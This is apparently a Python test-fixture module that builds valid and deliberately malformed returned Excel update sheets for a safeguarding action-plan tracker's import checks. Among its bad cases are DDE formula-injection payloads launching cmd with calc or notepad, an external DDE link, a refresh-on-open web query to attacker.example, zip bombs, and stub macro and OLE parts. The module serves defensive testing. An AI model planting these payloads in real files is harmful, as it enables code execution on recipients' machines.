"""A corpus of returned update sheets, good and bad, for tests/test_returns.py and test_bad_returns.py.

The GOOD sheet is built here independently of the issuer (workbook.update_sheet.write), exactly per
workbook.update_sheet.layout: an "Instructions" sheet, an "Updates" sheet with the HEAD cells and the
table at HEADER_ROW with COLUMNS (locked columns protected), and a very hidden "_scr" sheet with
RECORD_KEYS in column A, their values in column B (action_ids and locked_cells as JSON text,
dates as ISO text) and signature = agency_layout.sign(record, case_key).

Every BAD file is made from a good one by one change, the way a real return goes wrong: an
agency edits a locked cell, sorts the rows, types "next week" as a date, saves as CSV, sends a
truncated attachment; or the way a hostile file would: formulas and DDE payloads, zip bombs.
``BUILDERS`` maps a name to ``build(folder) -> (path, read_return keyword arguments)``.
"""
from __future__ import annotations

import copy
import datetime as dt
import json
import random
import struct
import warnings
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import openpyxl
from openpyxl.styles import Protection
from openpyxl.worksheet.datavalidation import DataValidation

from workbook.update_sheet import layout as AL
from workbook.update_sheet import record
from tracker.case import CaseData

CASE_ID = "a1b2c3d4e5f6"
CASE_KEY = "0123456789abcdef0123456789abcdef"
ISSUED = dt.date(2026, 9, 1)
RETURN_BY = dt.date(2026, 9, 29)
TODAY = dt.date(2026, 10, 5)
PASSWORD = "Rotherham-2009!"

D = dt.date
ACTIONS = (
    # id, rec no, recommendation, agency, action, responsible, target, status
    ("1.1", "1", "Improve information sharing at the front door", "Police",
     "Review the multi-agency referral pathway", "DI Jane Smith", D(2027, 3, 1), "in progress"),
    ("1.2", "1", "Improve information sharing at the front door", "Police",
     "Train call handlers on referral thresholds", "Sgt Ali Khan", D(2027, 1, 15), "not started"),
    ("2.1", "2", "Make sure domestic abuse notifications reach schools", "Police",
     "Audit domestic abuse notifications sent to schools", "DCI Rosa Patel", D(2026, 12, 31), "in progress"),
    ("3.1", "3", "Strengthen health visiting follow-up", "Health",
     "Introduce a missed-appointment protocol", "Named Nurse", D(2027, 2, 1), "in progress"),
    ("4.1", "4", "Quality-assure case recording", "Health",
     "Audit case files quarterly", "Named Doctor", D(2027, 4, 1), "not started"),
    ("4.2", "5", "Learn from missed appointments", "Health",
     "Audit case files quarterly", "Head of Safeguarding", D(2027, 6, 30), "not started"),
    ("5.1", "6", "Improve neglect assessments", "Children's Social Care",
     "Revise the neglect toolkit", "Principal Social Worker", D(2027, 1, 31), "in progress"),
)
AGENCIES = ("Police", "Health", "Children's Social Care", "Education")


def make_case(**kw) -> CaseData:
    """A small case with seven actions over three agencies (Police has 1.1, 1.2, 2.1)."""
    actions = [dict(action_id=a, rec_no=r, recommendation=rec, agency=ag, action=act, responsible=who,
                    target=t, agreed=D(2026, 6, 1), status=st, last_update=None, progress=None,
                    revised_target=None, revision_reason=None, _row=5 + i)
               for i, (a, r, rec, ag, act, who, t, st) in enumerate(ACTIONS)]
    agencies = [dict(agency=a, involvement="involved", _row=5 + i) for i, a in enumerate(AGENCIES)]
    base = dict(case_name="Child R", profile_id="rotherham-2009", day0=D(2026, 1, 5), today=TODAY,
                case_id=CASE_ID, case_key=CASE_KEY, agencies=agencies, actions=actions)
    base.update(kw)
    return CaseData(**base)


# The good return: 1.1 updated with a real date cell, 1.2 left blank (no update), 2.1 updated with
# a typed dd/mm/yyyy date and a tolerant status word ("Completed" = complete - awaiting sign-off).
GOOD_UPDATES = {
    "1.1": dict(status="In progress", progress="Pathway draft written and shared with partners.",
                evidence="Draft pathway v0.3", date=dt.datetime(2026, 9, 20)),
    "2.1": dict(status="Completed", progress="Audit of 40 notifications done.", evidence="Audit report, September 2026",
                date="25/09/2026"),
}


@dataclass
class Issue:
    """What one issued sheet says; change a field to issue a different (or wrong) sheet."""
    case: CaseData
    agency: str = "Police"
    action_ids: list[str] | None = None  # default: the agency's actions in plan order
    updates: dict = field(default_factory=lambda: copy.deepcopy(GOOD_UPDATES))
    issued: dt.date = ISSUED
    return_by: dt.date = RETURN_BY
    issue_id: str = "2026-09-01-police-1"
    template_version: int = AL.TEMPLATE_VERSION
    format: str = AL.FORMAT
    case_id: str | None = None  # default: the case's
    key: str | None = None  # the signing key; default: the case's
    extra_actions: dict = field(default_factory=dict)  # id -> locked row for ids not in the case
    sign_parsed_json: bool = False  # sign action_ids/locked_cells as lists instead of their JSON text

    def ids(self) -> list[str]:
        if self.action_ids is not None:
            return list(self.action_ids)
        return [a["action_id"] for a in self.case.actions if a["agency"] == self.agency]

    def locked_row(self, aid: str) -> list:
        if aid in self.extra_actions:
            return list(self.extra_actions[aid])
        a = next(a for a in self.case.actions if a["action_id"] == aid)
        return [a["action_id"], a["rec_no"], a["recommendation"], a["action"], a["responsible"], a["target"],
                a["status"]]

    def record(self) -> dict:
        locked = [[v.isoformat() if isinstance(v, dt.date) else v for v in self.locked_row(a)] for a in self.ids()]
        rec = {"format": self.format, "template_version": self.template_version,
               "case_id": self.case_id or self.case.case_id, "case_name": self.case.case_name,
               "agency": self.agency, "issue_id": self.issue_id, "issued": self.issued.isoformat(),
               "return_by": self.return_by.isoformat(), "action_ids": self.ids(), "locked_cells": locked}
        if not self.sign_parsed_json:
            rec["action_ids"] = json.dumps(rec["action_ids"], ensure_ascii=False)
            rec["locked_cells"] = json.dumps(rec["locked_cells"], ensure_ascii=False)
        rec["signature"] = record.sign(rec, self.key or self.case.case_key)
        if self.sign_parsed_json:  # the cells always hold JSON text
            rec["action_ids"] = json.dumps(rec["action_ids"], ensure_ascii=False)
            rec["locked_cells"] = json.dumps(rec["locked_cells"], ensure_ascii=False)
        return rec


def write_issued(path: Path, issue: Issue) -> Path:
    """An issued update sheet, filled in with ``issue.updates``, written with openpyxl."""
    path = Path(path)
    wb = openpyxl.Workbook()
    ins = wb.active
    ins.title = AL.INSTRUCTIONS
    ins["A1"] = "How to fill in this update sheet"
    ins["A3"] = ("Give an update for each action in the white columns of the Updates sheet: the status, the "
                 "progress since the last update, the evidence, and the date of the update (dd/mm/yyyy).")
    ws = wb.create_sheet(AL.UPDATES)
    ws["A1"] = "Serious Case Review: action plan update"
    head = {"case": issue.case.case_name, "agency": issue.agency, "issued": issue.issued, "return_by": issue.return_by}
    for key, label, row in AL.HEAD:
        ws.cell(row, 1, label)
        c = ws.cell(row, 2, head[key])
        if isinstance(head[key], dt.date):
            c.number_format = "dd/mm/yyyy"
    for j, col in enumerate(AL.COLUMNS, 1):
        ws.cell(AL.HEADER_ROW, j, col.header)
    dv = DataValidation(type="list", formula1='"' + ",".join(AL.STATUS_CHOICES) + '"', allow_blank=True)
    ws.add_data_validation(dv)
    for i, aid in enumerate(issue.ids()):
        r = AL.HEADER_ROW + 1 + i
        locked = dict(zip(AL.LOCKED_KEYS, issue.locked_row(aid)))
        typed = issue.updates.get(aid, {})
        for j, col in enumerate(AL.COLUMNS, 1):
            v = locked[col.key] if col.locked else typed.get(col.key)
            c = ws.cell(r, j)
            if v is not None:
                c.value = v
            if col.kind == "date":
                c.number_format = "dd/mm/yyyy"
            if not col.locked:
                c.protection = Protection(locked=False)
            if col.kind == "status":
                dv.add(c)
    ws.protection.sheet = True
    rs = wb.create_sheet(AL.RECORD)
    for i, (k, v) in enumerate(issue.record().items(), 1):
        rs.cell(i, 1, k)
        rs.cell(i, 2, v)
    rs.sheet_state = "veryHidden"
    wb.active = 1
    wb.save(path)
    return path


def good(folder: Path, name: str = "police-return.xlsx", **issue_kw) -> Path:
    issue_kw.setdefault("case", make_case())
    return write_issued(Path(folder) / name, Issue(**issue_kw))


def edited(folder: Path, change: Callable, name: str = "police-return.xlsx", **issue_kw) -> Path:
    """A good sheet, opened with openpyxl, changed by ``change(updates_ws, wb)``, saved again."""
    src = good(Path(folder), "_" + name, **issue_kw)
    wb = openpyxl.load_workbook(src)
    change(wb[AL.UPDATES], wb)
    out = Path(folder) / name
    wb.save(out)
    src.unlink()
    return out


def set_cells(**cells) -> Callable:
    def change(ws, wb):
        for ref, v in cells.items():
            ws[ref] = v
    return change


def rezip(src: Path, out: Path, add: dict | None = None, compress=zipfile.ZIP_DEFLATED) -> Path:
    """Copy a .xlsx member by member, adding ``add`` {name: bytes} (a member of the same name replaced)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(out, "w", compress) as zout:
        for info in zin.infolist():
            if info.filename not in (add or {}):
                zout.writestr(info.filename, zin.read(info))
        for name, data in (add or {}).items():
            zout.writestr(name, data)
    return out


def replace_text(path: Path, old: str, new: str) -> Path:
    """Replace text inside the workbook's XML (for what openpyxl and Excel will not write
    themselves, such as a cell longer than Excel's 32,767 characters)."""
    with zipfile.ZipFile(path) as zin:
        parts = [(i.filename, zin.read(i)) for i in zin.infolist()]
    found = False
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for name, data in parts:
            if old.encode() in data:
                data = data.replace(old.encode(), new.encode())
                found = True
            zout.writestr(name, data)
    assert found, old
    return path


def encrypt(src: Path, out: Path, password: str) -> Path:
    from msoffcrypto.format.ooxml import OOXMLFile
    with open(src, "rb") as f, open(out, "wb") as o:
        OOXMLFile(f).encrypt(password, o)
    return out


def fake_xls(out: Path) -> Path:
    """A minimal compound file (OLE/CFB, version 3) holding one 'Workbook' stream that starts
    with a BIFF8 BOF record: what an old .xls looks like from the outside."""
    SECT, END, FREE, FATSECT, NOSTREAM = 512, 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    stream = struct.pack("<HHHHIIII", 0x0809, 16, 0x0600, 0x0005, 0, 0, 0, 0)
    stream += b"\0" * (4096 - len(stream))  # at the mini-stream cutoff, so it lives in normal sectors
    nsect = len(stream) // SECT
    header = struct.pack("<8s16sHHHHH6sIIIIIIIII", bytes.fromhex("D0CF11E0A1B11AE1"), b"\0" * 16, 0x3E, 3, 0xFFFE,
                         9, 6, b"\0" * 6, 0, 1, 1, 0, 4096, END, 0, END, 0)
    header += struct.pack("<I", 0) + struct.pack("<I", FREE) * 108
    fat = [FATSECT, END] + [3 + i for i in range(nsect - 1)] + [END]
    fat += [FREE] * (128 - len(fat))

    def entry(name, kind, child, start, size):
        n = (name + "\0").encode("utf-16-le") if name else b""
        return struct.pack("<64sHBBIII16sIQQIQ", n, len(n), kind, 1 if name else 0, NOSTREAM, NOSTREAM,
                           child, b"\0" * 16, 0, 0, 0, start, size)
    directory = (entry("Root Entry", 5, 1, END, 0) + entry("Workbook", 2, NOSTREAM, 2, len(stream))
                 + entry("", 0, NOSTREAM, 0, 0) * 2)
    out.write_bytes(header + struct.pack("<128I", *fat) + directory + stream)
    return out


# ---- the corpus ---------------------------------------------------------------------------

R1, R2, R3 = AL.HEADER_ROW + 1, AL.HEADER_ROW + 2, AL.HEADER_ROW + 3  # rows of 1.1, 1.2, 2.1


def _swap_rows(a: int, b: int) -> Callable:
    def change(ws, wb):
        for j in range(1, len(AL.COLUMNS) + 1):
            ca, cb = ws.cell(a, j), ws.cell(b, j)
            ca.value, cb.value = cb.value, ca.value
    return change


def _copy_row(src: int, dst: int, **override) -> Callable:
    def change(ws, wb):
        for j in range(1, len(AL.COLUMNS) + 1):
            ws.cell(dst, j, ws.cell(src, j).value)
        for ref, v in override.items():
            ws[ref] = v
    return change


def _text_cell(ref: str, text: str) -> Callable:
    """A text cell that holds a string beginning with '=' (not a formula): what a CSV import or
    another program can leave behind."""
    def change(ws, wb):
        ws[ref] = text
        ws[ref].data_type = "s"
    return change


def _record_cell(key: str, value) -> Callable:
    def change(ws, wb):
        rs = wb[AL.RECORD]
        row = AL.RECORD_KEYS.index(key) + 1
        assert rs.cell(row, 1).value == key
        rs.cell(row, 2).value = value
    return change


def _bomb(folder, name, size):
    src = good(folder, "_src.xlsx")
    out = rezip(src, Path(folder) / name, {"xl/media/image1.png": b"\0" * size})
    src.unlink()
    return out


def _lying_sizes(folder):
    """A member whose directory entry claims 1,000 bytes but which inflates to 2 MB."""
    src = good(folder, "_src.xlsx")
    out = rezip(src, Path(folder) / "lying.xlsx", {"xl/media/image1.png": b"\0" * (2 * 1024 * 1024)})
    src.unlink()
    data = bytearray(out.read_bytes())
    name = b"xl/media/image1.png"
    at = data.find(b"PK\x01\x02" + b"", 0)
    while at != -1:
        n = struct.unpack_from("<H", data, at + 28)[0]
        if bytes(data[at + 46:at + 46 + n]) == name:
            struct.pack_into("<I", data, at + 24, 1000)
            break
        at = data.find(b"PK\x01\x02", at + 4)
    out.write_bytes(bytes(data))
    return out


def _many_members(folder):
    src = good(folder, "_src.xlsx")
    out = rezip(src, Path(folder) / "many.xlsx", {f"xl/media/part{i}.bin": b"x" for i in range(AL.MAX_ZIP_MEMBERS + 50)})
    src.unlink()
    return out


def _external_link(folder):
    src = good(folder, "_src.xlsx")
    link = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b'<ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink>'
            b'</externalLink>')
    rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'externalLinkPath" Target="file:///C:/Users/someone/other.xlsx" TargetMode="External"/></Relationships>')
    out = rezip(src, Path(folder) / "linked.xlsx", {"xl/externalLinks/externalLink1.xml": link,
                                                   "xl/externalLinks/_rels/externalLink1.xml.rels": rels})
    src.unlink()
    return out


def _with_parts(folder, name, parts: dict, types: tuple[bytes, bytes] | None = None):
    """A good sheet with extra zip parts (and [Content_Types].xml edited: (old, new)), as a hostile
    sender would add them by hand or Excel would save them."""
    src = good(folder, "_src.xlsx")
    if types:
        with zipfile.ZipFile(src) as z:
            parts = {"[Content_Types].xml": z.read("[Content_Types].xml").replace(*types), **parts}
    out = rezip(src, Path(folder) / name, parts)
    src.unlink()
    return out


def _duplicate_part(folder):
    """A second [Content_Types].xml after the first: zip readers differ on which one they take, so
    what the import checks need not be what Excel opens."""
    src = good(folder, "_src.xlsx")
    out = rezip(src, Path(folder) / "police-return.xlsx")
    with zipfile.ZipFile(src) as z, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        types = z.read("[Content_Types].xml").replace(*_MACRO_TYPES)
        with zipfile.ZipFile(out, "a") as zout:
            zout.writestr("[Content_Types].xml", types)
    src.unlink()
    return out


_MACRO_TYPES = (b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
_VBA = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504  # the start of a vbaProject.bin (an OLE file)
_WEB_QUERY = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              b'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
              b'<connection id="1" name="q" type="4" refreshOnLoad="1" refreshedVersion="6">'
              b'<webPr url="http://attacker.example/x.html" htmlTables="1"/></connection></connections>')
_QUERY_TABLE = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                b'<queryTable xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" name="q" '
                b'connectionId="1" refreshOnLoad="1" autoFormatId="16" applyNumberFormats="0"/>')
ACTIVE_PARTS: dict[str, Callable[[Path], Path]] = {
    "VBA project (.xlsm)": lambda f: _with_parts(f, "police-return.xlsm", {"xl/vbaProject.bin": _VBA}, _MACRO_TYPES),
    "VBA project named .xlsx": lambda f: _with_parts(f, "police-return.xlsx", {"xl/vbaProject.bin": _VBA}),
    "macro-enabled content type": lambda f: _with_parts(f, "police-return.xlsm", {}, _MACRO_TYPES),
    "Excel 4.0 macro sheet": lambda f: _with_parts(f, "police-return.xlsx", {"xl/macrosheets/sheet1.xml": b"<xm/>"}),
    "refresh-on-open web query": lambda f: _with_parts(f, "police-return.xlsx", {"xl/connections.xml": _WEB_QUERY}),
    "query table": lambda f: _with_parts(f, "police-return.xlsx", {"xl/queryTables/queryTable1.xml": _QUERY_TABLE}),
    "embedded OLE object": lambda f: _with_parts(f, "police-return.xlsx",
                                                 {"xl/embeddings/oleObject1.bin": _VBA}),
    "embedded package": lambda f: _with_parts(f, "police-return.xlsx",
                                              {"xl/embeddings/Microsoft_Word_Document.docx": b"PK\x05\x06" + b"\0" * 18}),
    "two parts of the same name": lambda f: _duplicate_part(f),
    "ActiveX control": lambda f: _with_parts(f, "police-return.xlsx", {"xl/activeX/activeX1.xml": b"<ax/>",
                                                                      "xl/activeX/activeX1.bin": _VBA}),
}


def _docx(folder):
    out = Path(folder) / "update.docx"
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
    return out


def _not_tracker(folder):
    wb = openpyxl.Workbook()
    wb.active["A1"] = "Police update"
    wb.active["A2"] = "All actions are progressing well."
    out = Path(folder) / "own-sheet.xlsx"
    wb.save(out)
    return out


def _write(folder, name, data: bytes):
    out = Path(folder) / name
    out.write_bytes(data)
    return out


def _encrypted(folder, name="encrypted.xlsx", password=PASSWORD):
    src = good(folder, "_src.xlsx")
    out = encrypt(src, Path(folder) / name, password)
    src.unlink()
    return out


_CSV = ("Action ID,Rec no,Recommendation,Action,Responsible individual,Target date,Status at issue,Status now,"
        "Progress since last update,Evidence (what shows it is done),Date of update\n"
        "1.1,1,Improve information sharing,Review the pathway,DI Jane Smith,01/03/2027,in progress,in progress,"
        "Draft written,Draft v0.3,20/09/2026\n")

UNKNOWN_ROW = ["9.9", "9", "A recommendation since removed", "An action since removed", "Nobody", "2027-01-01",
               "not started"]
DDE = "=cmd|' /C calc'!A0"

BUILDERS: dict[str, Callable[[Path], tuple[Path, dict]]] = {
    # the file itself
    "missing file": lambda f: (Path(f) / "not-there.xlsx", {}),
    "empty file": lambda f: (_write(f, "empty.xlsx", b""), {}),
    "too big": lambda f: (_write(f, "huge.xlsx", b"PK\x03\x04" + b"\0" * (AL.MAX_FILE_BYTES + 10)), {}),
    "random bytes": lambda f: (_write(f, "random.xlsx", b"\x00\x01" + random.Random(7).randbytes(20000)), {}),
    "csv file": lambda f: (_write(f, "police-return.csv", _CSV.encode()), {}),
    "plain text": lambda f: (_write(f, "police-return.txt", b"Police update: all actions progressing well.\r\n"), {}),
    "utf-16 text": lambda f: (_write(f, "police-return.txt", _CSV.encode("utf-16")), {}),
    "web page": lambda f: (_write(f, "police-return.xls", b"<html><body><table><tr><td>1.1</td></tr></table></body>"
                                                          b"</html>"), {}),
    "truncated zip": lambda f: (_write(f, "cut.xlsx", good(f, "_src.xlsx").read_bytes()[:3000]), {}),
    "zip bomb (ratio)": lambda f: (_bomb(f, "bomb.xlsx", 20 * 1024 * 1024), {}),
    "zip bomb (total size)": lambda f: (_bomb(f, "bomb.xlsx", AL.MAX_UNZIPPED_BYTES + 1024 * 1024), {}),
    "zip bomb (lying sizes)": lambda f: (_lying_sizes(f), {}),
    "too many zip members": lambda f: (_many_members(f), {}),
    "word document": lambda f: (_docx(f), {}),
    "encrypted, no password": lambda f: (_encrypted(f), {}),
    "encrypted, wrong password": lambda f: (_encrypted(f), {"password": "not-the-password"}),
    "old .xls": lambda f: (fake_xls(Path(f) / "police-return.xls"), {}),
    "external link part": lambda f: (_external_link(f), {}),
    **{name: (lambda build: lambda f: (build(f), {}))(build) for name, build in ACTIVE_PARTS.items()},
    "not a tracker sheet": lambda f: (_not_tracker(f), {}),
    # the record
    "wrong case": lambda f: (good(f, case_id="ffffffffffff", key="another case's key"), {}),
    "agency not in case": lambda f: (good(f, agency="Fire and Rescue", action_ids=["1.1"]), {}),
    "tampered record": lambda f: (edited(f, _record_cell("agency", "Health")), {}),
    "tampered record (action list)": lambda f: (edited(f, _record_cell("action_ids", '["1.1", "1.2"]')), {}),
    "record signed with another key": lambda f: (good(f, key="a guessed key"), {}),
    "old template version": lambda f: (good(f, template_version=0), {}),
    "newer template version": lambda f: (good(f, template_version=AL.TEMPLATE_VERSION + 1), {}),
    "unknown action in record": lambda f: (good(f, action_ids=["1.1", "1.2", "2.1", "9.9"],
                                                extra_actions={"9.9": UNKNOWN_ROW}), {}),
    # the table
    "header renamed": lambda f: (edited(f, set_cells(I7="Progress")), {}),
    "column removed": lambda f: (edited(f, lambda ws, wb: ws.delete_cols(3)), {}),
    "row inserted above the table": lambda f: (edited(f, lambda ws, wb: ws.insert_rows(3)), {}),
    "two rows inserted above the header": lambda f: (edited(f, lambda ws, wb: ws.insert_rows(AL.HEADER_ROW, 2)), {}),
    "row deleted above the table": lambda f: (edited(f, lambda ws, wb: ws.delete_rows(6)), {}),
    "rows added": lambda f: (edited(f, set_cells(A11="1.3", D11="Extra action", I11="Done it", K11="01/10/2026")), {}),
    "rows deleted": lambda f: (edited(f, lambda ws, wb: ws.delete_rows(R2)), {}),
    "rows reordered": lambda f: (edited(f, _swap_rows(R1, R2)), {}),
    "duplicated action row": lambda f: (edited(f, _copy_row(R1, R3 + 1, I11="More progress")), {}),
    "tampered locked cell": lambda f: (edited(f, set_cells(F8=dt.datetime(2027, 4, 1))), {}),
    "tampered locked text": lambda f: (edited(f, set_cells(D9="Train some call handlers")), {}),
    "text outside the table": lambda f: (edited(f, set_cells(N8="see the attached report")), {}),
    # the cells
    "text in a date cell": lambda f: (edited(f, set_cells(K8="next week")), {}),
    "31/02/2026": lambda f: (edited(f, set_cells(K8="31/02/2026")), {}),
    "US-order date 12/31/2026": lambda f: (edited(f, set_cells(K8="12/31/2026")), {}),
    "future date": lambda f: (edited(f, set_cells(K8=dt.datetime(2026, 12, 1))), {}),
    "date long before issue": lambda f: (edited(f, set_cells(K8=dt.datetime(2025, 9, 20))), {}),
    "update date missing with progress": lambda f: (edited(f, set_cells(K8=None)), {}),
    "date of update and nothing else": lambda f: (edited(f, set_cells(K9="30/09/2026")), {}),
    "revised target without reason": lambda f: (edited(f, set_cells(L8="31/03/2027")), {}),
    "reason without revised target": lambda f: (edited(f, set_cells(M8="Trainer off sick")), {}),
    "revised target before the update": lambda f: (edited(f, set_cells(L8="01/09/2026", M8="Slipped")), {}),
    "unknown status word": lambda f: (edited(f, set_cells(H8="Sort of done")), {}),
    "formula in progress": lambda f: (edited(f, set_cells(I8="=1+1")), {}),
    "formula in date": lambda f: (edited(f, set_cells(K8="=TODAY()")), {}),
    "DDE payload": lambda f: (edited(f, set_cells(I8=DDE)), {}),
    "DDE payload as text": lambda f: (edited(f, _text_cell("I8", DDE)), {}),
    "@SUM(1+1)*cmd|": lambda f: (edited(f, set_cells(I8="@SUM(1+1)*cmd|' /C calc'!A0")), {}),
    "+cmd| in evidence": lambda f: (edited(f, set_cells(J8="+cmd|' /C notepad'!A0")), {}),
    "-2+3+cmd|": lambda f: (edited(f, set_cells(I10="-2+3+cmd|' /C calc'!A0")), {}),
    "enormous cell": lambda f: (replace_text(edited(f, set_cells(I8="ENORMOUS")), "ENORMOUS", "x" * 40000), {}),
    "nothing filled in": lambda f: (good(f, updates={}), {}),
}


def build(name: str, folder: Path) -> tuple[Path, dict]:
    return BUILDERS[name](Path(folder))


# ---- the seeds' own action record (seed 001 §3.6 section 6 and p.56), typed by an agency ------

RECORD_HEADERS = ("Recommendation", "Action", "Responsible Individual", "Target date", "Evidence/Progress 1.",
                  "Date of Update:")


def action_record(folder: Path, rows: list[tuple], *, agency: str | None = "Health", name="health-action-record.xlsx",
                  headers: tuple = RECORD_HEADERS, agency_in_one_cell: bool = False) -> Path:
    """An agency's own "Serious Case Review Action Record": title, Child:, Agency:, then a table."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Action record"
    ws["A1"] = "Rotherham Safeguarding Children Board"
    ws["A2"] = "Serious Case Review Action Record"
    ws["A4"], ws["B4"] = "Child:", "R"
    if agency is not None:
        if agency_in_one_cell:
            ws["A5"] = f"Agency: {agency}"
        else:
            ws["A5"], ws["B5"] = "Agency:", agency
    for j, h in enumerate(headers, 1):
        ws.cell(7, j, h)
    for i, row in enumerate(rows):
        for j, v in enumerate(row, 1):
            if v not in (None, ""):
                ws.cell(8 + i, j, v)
    ws.cell(9 + len(rows), 1, "Completed by: Named Nurse")
    out = Path(folder) / name
    wb.save(out)
    return out
